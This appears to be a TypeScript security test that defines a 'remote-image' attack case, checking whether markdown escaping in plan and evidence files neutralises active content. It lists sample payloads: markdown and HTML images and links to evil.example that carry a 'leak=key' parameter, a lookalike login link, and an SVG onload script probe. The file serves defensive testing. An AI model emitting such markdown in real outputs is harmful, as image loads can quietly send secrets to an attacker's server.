// Markdown that makes a previewer load an address, and with it tell whatever the address holds.
import type { Attack } from "@ossaat/contracts/testing";

import { inline, labelled, prose } from "../plan/markdown-text.ts";

const texts = [
  "![x](http://evil.example/?leak=key)",
  "![x][r]",
  "[r]: http://evil.example/?leak=key",
  "see [the report](http://evil.example/login)",
  '<img src="http://evil.example/?leak=key">',
  "<svg onload=alert(1)>",
  "a\n\n![x](http://evil.example/)\n[r]: http://evil.example/",
];

/** What a previewer would load or link to in a text: images, links, definitions, elements. */
const active = /!\[[^\]]*\](?:\(|\[)|\[[^\]]*\]\(|^\s*(?:> ?)*\[[^\]]*\]:|(?<!\\)<[a-z]/imu;

const live = (show: (text: string) => string) => texts.filter((text) => active.test(show(text)));

export const remoteImage: Attack<void> = {
  id: "remote-image",
  title: "leak by a picture or link in plan.md and evidence.md",
  stride: "I",
  layer: "display escape",
  attempt: () => Promise.resolve([inline, prose, (text: string) => labelled("Goal", text)].flatMap(live)),
  blocked: () => [],
  planted: { attempt: () => Promise.resolve(live((text) => text)), gives: () => texts },
};
